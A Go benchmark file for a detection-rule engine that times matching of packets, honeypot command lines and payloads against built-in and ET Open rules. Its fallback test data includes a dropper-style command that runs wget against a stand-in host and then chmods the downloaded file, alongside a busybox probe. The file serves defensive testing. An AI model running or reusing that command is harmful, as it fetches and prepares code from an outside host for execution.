package rules

import (
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
)

// etEngine compiles the whole 2025-08-17 snapshot plus the built-in rules.
func etEngine(b *testing.B) *Engine {
	b.Helper()
	dir := findShared()
	if dir == "" {
		b.Skip("shared/data not present")
	}
	s, err := LoadBuiltin(Options{})
	if err != nil {
		b.Fatal(err)
	}
	if err := s.AddPath(filepath.Join(dir, "rules", "et-open-2025-08-17")); err != nil {
		b.Fatal(err)
	}
	e, err := Compile(s)
	if err != nil {
		b.Fatal(err)
	}
	return e
}

func benchMix(b *testing.B, e *Engine) {
	m := NewMatcher(e)
	st := NewState(1<<12, 1<<12)
	pkts := benchPackets()
	names := []string{"syn", "benign-http", "jaws", "gpon", "telnet", "binary-1400"}
	for i, p := range pkts {
		b.Run(names[i], func(b *testing.B) {
			dst := make([]Alert, 0, 64)
			ctx := &Context{State: st, Flow: 1}
			b.ReportAllocs()
			b.SetBytes(int64(len(p.Payload)))
			for b.Loop() {
				dst = m.Packet(p, ctx, dst[:0])
			}
		})
	}
}

// BenchmarkPacketBuiltin is the per-packet cost with the built-in rules.
func BenchmarkPacketBuiltin(b *testing.B) { benchMix(b, builtinEngine(b)) }

// BenchmarkPacketETOpen is the per-packet cost with the whole ET Open
// 2025-08-17 snapshot (and the built-in rules) loaded.
func BenchmarkPacketETOpen(b *testing.B) { benchMix(b, etEngine(b)) }

// cowrieLines returns the shared Cowrie commands (or a small stand-in).
func cowrieLines(b *testing.B) []string {
	dir := findShared()
	data, err := os.ReadFile(filepath.Join(dir, "logs/cowrie-emansih/cowrie_cmd.uniq-counts.txt"))
	if dir == "" || err != nil {
		return []string{"cd /tmp; wget http://192.0.2.1/x -O - > x; chmod 777 x", "uname -a", "/bin/busybox ECCHI"}
	}
	var out []string
	for _, line := range strings.Split(string(data), "\n") {
		line = strings.TrimSpace(line)
		if i := strings.IndexByte(line, ' '); i >= 0 {
			if s, err := strconv.Unquote(line[i+1:]); err == nil {
				out = append(out, s)
			}
		}
	}
	return out
}

func benchCommands(b *testing.B, e *Engine) {
	lines := cowrieLines(b)
	m := NewMatcher(e)
	dst := make([]Alert, 0, 16)
	b.ReportAllocs()
	n := 0
	for b.Loop() {
		dst = m.Command(lines[n%len(lines)], nil, dst[:0])
		n++
	}
	b.ReportMetric(float64(n)/b.Elapsed().Seconds(), "lines/s")
}

// BenchmarkCommandBuiltin matches honeypot command lines (the distinct
// commands of the shared Cowrie log, in turn) with the built-in rules.
func BenchmarkCommandBuiltin(b *testing.B) { benchCommands(b, builtinEngine(b)) }

// BenchmarkCommandETOpen is the same with the ET Open snapshot loaded too.
func BenchmarkCommandETOpen(b *testing.B) { benchCommands(b, etEngine(b)) }

// BenchmarkLoadETOpen loads and compiles the snapshot.
func BenchmarkLoadETOpen(b *testing.B) {
	for b.Loop() {
		etEngine(b)
	}
}

// benchPayloads are the payloads of benchPackets that have one.
func benchPayloads() [][]byte {
	var out [][]byte
	for _, p := range benchPackets() {
		if len(p.Payload) > 0 {
			out = append(out, p.Payload)
		}
	}
	return out
}

// BenchmarkPayloadFirstETOpen is the first-match path (Matcher.PayloadFirst)
// over the payload packets of benchPackets in turn, with the snapshot
// loaded; BenchmarkPayloadAllETOpen evaluates every candidate
// (Matcher.Payload), as the exploit adapter did before; and
// BenchmarkAdapterETOpen is the adapter, whose cache answers these few
// payloads after their first time.
func BenchmarkPayloadFirstETOpen(b *testing.B) {
	m := NewMatcher(etEngine(b))
	ps := benchPayloads()
	n := 0
	b.ReportAllocs()
	for b.Loop() {
		m.PayloadFirst(ps[n%len(ps)], nil)
		n++
	}
}

// BenchmarkPayloadAllETOpen: see BenchmarkPayloadFirstETOpen.
func BenchmarkPayloadAllETOpen(b *testing.B) {
	m := NewMatcher(etEngine(b))
	ps := benchPayloads()
	dst := make([]Alert, 0, 16)
	n := 0
	b.ReportAllocs()
	for b.Loop() {
		dst = m.Payload(ps[n%len(ps)], nil, dst[:0])
		n++
	}
}

// BenchmarkAdapterETOpen: see BenchmarkPayloadFirstETOpen.
func BenchmarkAdapterETOpen(b *testing.B) {
	a := NewExploitAdapter(etEngine(b))
	ps := benchPayloads()
	n := 0
	b.ReportAllocs()
	for b.Loop() {
		a.Match(ps[n%len(ps)])
		n++
	}
}
